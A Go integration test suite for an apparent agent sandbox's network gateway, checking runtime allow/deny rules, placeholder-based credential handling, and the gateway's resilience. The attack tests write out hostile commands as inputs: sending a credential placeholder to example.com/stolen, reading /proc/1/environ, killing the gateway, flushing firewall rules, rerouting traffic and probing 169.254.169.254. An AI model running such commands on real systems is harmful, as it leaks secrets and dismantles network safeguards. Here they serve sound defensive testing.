package network

import (
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/agentsafe/agentsafe/integration/harness"
)

// up starts a container that sleeps under a profile, and returns how to run something in it and how to ask its gateway.
func up(t *testing.T, network string) (sh func(script string) harness.Result, ask func(args ...string) harness.Result, dir string) {
	t.Helper()
	administer(t, profileFile(t, network), "[network]", `allowWhileRunning = ["*.test:80,443"]`)
	_, peer := harness.Peers(t)
	d := box.Bare(t, peer)
	b := d.Up(t, nil)
	sh = func(script string) harness.Result { return d.Do(t, "exec", b.ID, "sh", "-c", script) }
	ask = func(args ...string) harness.Result {
		args = append([]string{ctl(t), "--root", d.Root, "network", args[0], b.ID}, args[1:]...)
		return box.Run(t, harness.Cmd{Args: args})
	}
	return sh, ask, filepath.Join(d.Root, b.ID)
}

// Rules change while a task runs: at once, and without a break for what stays allowed.
func TestChangeWhileRunning(t *testing.T) {
	sh, ask, _ := up(t, rules("http://example.com", "tcp://git.test:5432"))
	get := func(name string) bool { return sh("wget -qO- http://"+name+"/").Exit == 0 }
	if !get("example.com") || get("other.test") {
		t.Fatal("the profile does not hold")
	}
	sh("(sleep 30 | nc git.test 5432 >/tmp/kept) & sleep 0.5")
	if r := ask("allow", "http://other.test"); r.Exit != 0 || !get("other.test") {
		t.Errorf("allow: %v", r)
	}
	if r := ask("deny", "example.com:80"); r.Exit != 0 || get("example.com") {
		t.Errorf("deny: %v", r)
	}
	if r := ask("allow", "http://10.0.0.1.x:0"); r.Exit == 0 {
		t.Errorf("a rule that is none: %v", r)
	}
	for _, beyond := range []string{"tcp://other.test:22", "www.example.com:80", "*:443", "10.0.0.0/8:80"} {
		if r := ask("allow", beyond); r.Exit == 0 || !strings.Contains(r.Stderr, "allowWhileRunning") {
			t.Errorf("%s is beyond what the host permits: %v", beyond, r)
		}
	}
	r := ask("show")
	for _, want := range []string{`http://other.test +allowed while running`, `example.com:80 +denied while running`, `git.test +5432 +tcp`, `example.com +80 +denied`} {
		if !regexp.MustCompile(want).MatchString(r.Stdout) {
			t.Errorf("show has no %s:\n%v", want, r)
		}
	}
	if r := ask("deny", "tcp://git.test:5432"); r.Exit != 0 {
		t.Errorf("deny: %v", r)
	}
	if r := ask("show"); regexp.MustCompile(`git.test +5432 +tcp`).MatchString(r.Stdout) {
		t.Errorf("a connection that is denied stays:\n%v", r)
	}
}

// The task works with a placeholder, and the secret is nowhere inside.
func TestCredential(t *testing.T) {
	const secret = "s3cr3t-of-the-host"
	key := filepath.Join(box.TempDir(t), "key")
	if err := os.WriteFile(key, []byte(secret+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	trustWorld(t)
	sh, ask, dir := up(t, rules("http://example.com")+"  credentials:\n  - {name: model, file: "+key+
		", destination: \"api.test:443\", present: bearer, baseURLEnv: MODEL_BASE_URL, placeholderEnv: MODEL_API_KEY}\n")
	// What a client of a model does. An exec gets the variables as well as the first process.
	r := sh(`wget -qO- --header "Authorization: Bearer $MODEL_API_KEY" $MODEL_BASE_URL/v1/messages; env; cat /proc/1/environ`)
	if !strings.Contains(r.Stdout, "world: api.test /v1/messages") || !strings.Contains(r.Stdout, "MODEL_BASE_URL=http://model.agentsafe.internal") {
		t.Fatalf("%v", r)
	}
	if !slices.Contains(outside.requests(), "GET api.test/v1/messages Bearer "+secret) {
		t.Errorf("the destination did not get the secret: %v", outside.requests())
	}
	if strings.Contains(r.Stdout, secret) {
		t.Error("the secret is inside")
	}
	// The same placeholder to somebody else is refused and reported.
	r = sh(`wget -S -O- --header "X: $MODEL_API_KEY" http://example.com/stolen 2>&1; wget -O- "http://example.com/?k=$MODEL_API_KEY" 2>&1`)
	if strings.Count(r.Stdout, "server returned error: HTTP/1.1 403") != 2 {
		t.Errorf("%v", r)
	}
	if r := ask("show"); !regexp.MustCompile(`placeholder of the credential model was sent to another host`).MatchString(r.Stdout) || strings.Contains(r.Stdout, secret) {
		t.Errorf("%v", r)
	}
	for _, name := range []string{"network.jsonl", "state.json", "detail.json"} {
		if data, err := os.ReadFile(filepath.Join(dir, name)); err != nil || strings.Contains(string(data), secret) {
			t.Errorf("%s holds the secret, or can't be read: %v", name, err)
		}
	}
}

// A gateway that ends is started again under the same policy. Meanwhile there is no network, and never an open one.
func TestAttack_GatewayKilled(t *testing.T) {
	sh, _, dir := up(t, rules("http://example.com"))
	if r := sh("wget -qO- http://example.com/"); r.Exit != 0 {
		t.Fatalf("%v", r)
	}
	id := filepath.Base(dir)
	kill := func() {
		box.MustRun(t, "sh", "-c", `for p in /proc/[0-9]*; do case "$(tr '\0' ' ' <$p/cmdline)" in "agentsafe-gateway `+id+` ") kill -9 ${p#/proc/};; esac; done`)
	}
	for range 2 {
		kill()
		for _, target := range []string{"http://" + public4 + "/", "http://10.9.9.9/", "http://169.254.169.254/"} {
			if r := sh("timeout 10 wget -qO- " + target); r.Exit == 0 {
				t.Errorf("%s answers: %v", target, r)
			}
		}
		if r := sh("for i in 1 2 3 4 5 6 7 8 9 10; do wget -qO- http://example.com/ && exit; sleep 0.5; done; exit 1"); r.Exit != 0 {
			t.Fatalf("it is not started again: %v", r)
		}
		if r := sh("wget -qO- http://other.test/"); r.Exit == 0 {
			t.Errorf("the new one has another policy: %v", r)
		}
	}
	data, err := os.ReadFile(filepath.Join(dir, "network.jsonl"))
	if err != nil || strings.Count(string(data), `"event":"start"`) != 3 {
		t.Errorf("the log does not tell of three starts (%v):\n%s", err, data)
	}
}

// What a task can do to its gateway from inside is nothing.
func TestAttack_GatewayFromInside(t *testing.T) {
	sh, _, _ := up(t, rules("http://example.com"))
	for script, want := range map[string]string{
		"ps | grep -c '[a]gentsafe-gateway'": "^0\n",
		// The gateway's port is somewhere in the ephemeral range: nobody else can have it, and asking it directly leads nowhere.
		`for p in $(awk '$4=="0A"{print $2}' /proc/net/tcp | cut -d: -f2); do test -n "$(echo | nc -w 1 127.0.0.1 $((0x$p)) 2>/dev/null)" && echo answered; done; echo done`: "^done\n",
		"ip route del local default 2>&1; ip route add default dev lo 2>&1":                                                                                                  "(?i)not permitted",
		"nft flush ruleset 2>&1 || iptables -F 2>&1 || echo none":                                                                                                            "none|not found|permitted",
		"ls /sys/fs/cgroup 2>/dev/null; echo $$ > /sys/fs/cgroup/agentsafe-gateway/cgroup.procs 2>&1; echo done":                                                             "done",
	} {
		if r := sh(script); !regexp.MustCompile(want).MatchString(r.Stdout) {
			t.Errorf("%s: want %s\n%v", script, want, r)
		}
	}
	if r := sh("wget -qO- http://example.com/"); r.Exit != 0 {
		t.Errorf("it does not work any more: %v", r)
	}
}
